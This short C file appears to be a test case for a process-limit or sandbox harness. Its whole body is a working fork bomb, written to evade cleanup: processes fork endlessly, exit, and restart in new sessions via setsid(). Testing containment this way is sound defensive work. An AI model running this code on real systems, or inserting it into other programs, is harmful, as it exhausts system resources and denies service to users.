/* {timeout=5s} A fork bomb that moves: each process has one child and ends, in new sessions. */
#include "attack.h"

int main(void)
{
    for (;;) {
        pid_t child = fork();
        if (child > 0 && getpid() > 2)
            _exit(0);
        setsid();
        fork();
    }
}
